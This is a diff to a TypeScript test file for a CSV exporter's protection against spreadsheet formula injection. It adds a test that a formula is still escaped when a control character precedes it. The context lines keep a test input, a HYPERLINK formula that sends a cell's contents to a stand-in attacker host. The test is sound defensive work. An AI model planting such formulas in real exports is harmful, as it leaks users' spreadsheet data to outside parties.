@@ -3,7 +3,7 @@ import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import type { ContrastReport } from "../../src/model/report.ts";
 import { toCsv } from "../../src/render/csv.ts";
-import { withoutControls } from "../../src/text/words.ts";
+import { withoutControls } from "../../src/text/controls.ts";
 import { ferryReport } from "../fixtures/report.ts";
 
 /** Reads CSV as another program does: one object a row. */
@@ -108,6 +108,15 @@ describe("toCsv(report) with hostile text", () => {
     '=HYPERLINK("https://evil.example?x="&A1,"click")',
   ])("puts an apostrophe in front of the formula %j", (text) => {
     expect(read(toCsv(withFirstAssertion({ text })))[0]!.text).toBe(`'${text}`);
+  });
+  it("puts it there too where a control code stands before the formula", () => {
+    const codes = Array.from({ length: 160 }, (_, code) => String.fromCharCode(code)).filter((sign) =>
+      /\p{Cc}/u.test(sign),
+    );
+    const bare = codes.filter(
+      (code) => !read(toCsv(withFirstAssertion({ text: `${code}=1+1` })))[0]!.text!.startsWith("'"),
+    );
+    expect(bare).toEqual([]);
   });
   it.each(["a-b", "1,200", "12 = 12", "you@example.org", "\u2212 5", "'quoted'"])("leaves %j as it is", (text) => {
     expect(read(toCsv(withFirstAssertion({ text })))[0]!.text).toBe(text);
